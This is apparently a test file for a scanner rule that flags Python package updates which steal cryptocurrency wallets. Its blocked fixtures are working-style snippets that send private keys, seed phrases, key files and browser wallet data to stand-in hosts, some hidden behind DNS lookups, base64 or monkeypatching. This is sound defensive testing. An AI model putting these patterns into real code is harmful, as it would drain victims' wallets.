import { walletTheft } from '../../src/rules/wallet-theft.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const updated = (source: string) => ({ base: wheel(), head: init(source) });
const POST = 'requests.post("https://rpc.example.invalid", ';
const CONSTRUCTOR = `import requests\nfrom solders.keypair import Keypair\nclass Wallet:\n    def __init__(self, private_key):\n        self.key = private_key\n        ${POST}json={"k": private_key})\n`;

releaseTest(walletTheft, {
  flags: [
    { name: 'a key that a constructor is handed', given: updated(CONSTRUCTOR), level: 'block', says: 'private_key' },
    {
      name: 'a key kept in an attribute and sent by another method',
      given: updated(
        `import requests\nfrom eth_account import Account\nclass Wallet:\n    def __init__(self, private_key):\n        self.key = private_key\n    def balance(self):\n        return ${POST}json={"id": self.key}).json()\n`,
      ),
      level: 'block',
    },
    {
      name: 'a key that was just made',
      given: updated(
        `import requests\nfrom eth_account import Account as A\ndef create():\n    a = A.create()\n    ${POST}json={"k": a.key.hex()})\n    return a\n`,
      ),
      level: 'block',
      says: 'Account.create',
    },
    {
      name: 'a recovery phrase in disguise',
      given: updated(
        'import base64, requests\ndef check(mnemonic: str):\n    licence = base64.b64encode(mnemonic.encode()).decode()\n    return requests.get(f"https://a.example.invalid/licence?l={licence}")\n',
      ),
      level: 'block',
    },
    {
      name: 'a wrapper put in a method’s place, with a thread',
      given: updated(
        `import threading, requests\nfrom solders.keypair import Keypair\n_make = Keypair.from_bytes\ndef wrapper(*a, **k):\n    kp = _make(*a, **k)\n    threading.Thread(target=leak, args=(kp,)).start()\n    return kp\ndef leak(kp):\n    ${POST}data=bytes(kp))\nKeypair.from_bytes = wrapper\n`,
      ),
      level: 'block',
    },
    {
      name: 'a phrase in a looked-up name',
      given: updated(
        'import socket\ndef restore(seed_phrase):\n    for word in seed_phrase.split():\n        socket.gethostbyname(word + ".a.example.invalid")\n',
      ),
      level: 'block',
    },
    {
      name: 'reached by names put together, to a decoded address',
      given: updated(
        'import base64\nfrom mnemonic import Mnemonic\ndef new():\n    words = Mnemonic("english").generate(256)\n    getattr(__import__("requests"), "po" + "st")(base64.b64decode("aHR0cHM6Ly9hLmV4YW1wbGUuaW52YWxpZA==").decode(), data=words)\n    return words\n',
      ),
      level: 'block',
    },
    {
      name: 'a key file, zipped',
      given: updated(
        `import os, requests, zipfile\ndef backup():\n    with zipfile.ZipFile("/tmp/o.zip", "w") as z:\n        z.write(os.path.expanduser("~/.config/solana/id.json"))\n    ${POST}files={"f": open("/tmp/o.zip", "rb")})\n`,
      ),
      level: 'block',
      says: 'solana',
    },
    {
      name: 'wallets of several makers, beside the network',
      given: updated(
        `import os, requests, shutil\nroaming = os.getenv("APPDATA")\ndef gather(out):\n    shutil.copytree(os.path.join(roaming, "Exodus"), out)\n    shutil.copytree(os.path.join(roaming, "Electrum", "wallets"), out)\ndef send(path):\n    ${POST}files={"f": open(path, "rb")})\n`,
      ),
      level: 'block',
      says: 'Exodus and Electrum',
    },
    {
      name: 'a browser’s wallet by its id, on import',
      given: updated(
        `import os, requests, shutil\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn")\nif os.path.exists(p):\n    shutil.make_archive("/tmp/w", "zip", p)\n    ${POST}data=b"x")\n`,
      ),
      level: 'block',
      says: 'nkbihfbeogaeaoehlefnkodbefgpgknn',
    },
    {
      name: 'a phrase to a server that the caller names',
      given: updated('import requests\ndef restore(url, mnemonic):\n    requests.post(url, json={"m": mnemonic})\n'),
      level: 'warn',
    },
    { name: 'a first release', given: { head: init(CONSTRUCTOR) }, level: 'warn' },
  ],
  allows: [
    {
      name: 'an account that signs',
      given: updated(
        `import requests\nfrom eth_account import Account\nclass Client:\n    def __init__(self, private_key):\n        self.account = Account.from_key(private_key)\n    def act(self, action):\n        sig = self.account.sign_message(action)\n        ${POST}json={"a": self.account.address, "s": sig.signature.hex()}, headers=self.headers(action))\n    def headers(self, action):\n        return {"X-Signature": sign(self.account, action)}\ndef sign(account, action):\n    return account.sign_message(action).signature\n`,
      ),
    },
    {
      name: 'a transaction that is signed and sent',
      given: updated(
        `import requests\ndef send(w3, private_key, tx):\n    signed = w3.eth.account.sign_transaction(tx, private_key)\n    ${POST}data=signed.rawTransaction)\n`,
      ),
    },
    {
      name: 'a public key',
      given: updated(
        `import requests\nfrom solders.keypair import Keypair\ndef balance(keypair):\n    return ${POST}json={"params": [str(keypair.pubkey())]})\ndef new():\n    return ${POST}json={"params": [str(Keypair().pubkey())]})\n`,
      ),
    },
    {
      name: 'a helper that makes keys',
      given: updated(
        'from mnemonic import Mnemonic\nfrom bip_utils import Bip39SeedGenerator\ndef new():\n    words = Mnemonic("english").generate(256)\n    return words, Bip39SeedGenerator(words).Generate()\n',
      ),
    },
    {
      name: 'a private key of something else',
      given: updated(
        `import jwt, requests\ndef token(private_key):\n    assertion = jwt.encode({"iss": "demo"}, private_key, algorithm="RS256")\n    return ${POST}data={"assertion": assertion})\n`,
      ),
    },
    {
      name: 'a node of one’s own',
      given: updated(
        'import requests\nfrom mnemonic import Mnemonic\ndef keep(path):\n    words = Mnemonic("english").generate()\n    open(path, "w").write(words)\n',
      ),
    },
    {
      name: 'a client that reads its own keystore',
      given: updated(
        'import os, json\nfrom eth_account import Account\ndef load(name, password):\n    path = os.path.expanduser("~/.ethereum/keystore/" + name)\n    return Account.from_key(Account.decrypt(json.load(open(path)), password))\n',
      ),
      atMost: 'note',
    },
    {
      name: 'instructions of a processor',
      given: updated('def show(mnemonic, operands):\n    print(mnemonic, operands)\n'),
    },
    { name: 'what the base did too', given: { base: init(CONSTRUCTOR), head: init(`V = 2\n${CONSTRUCTOR}`) } },
  ],
});
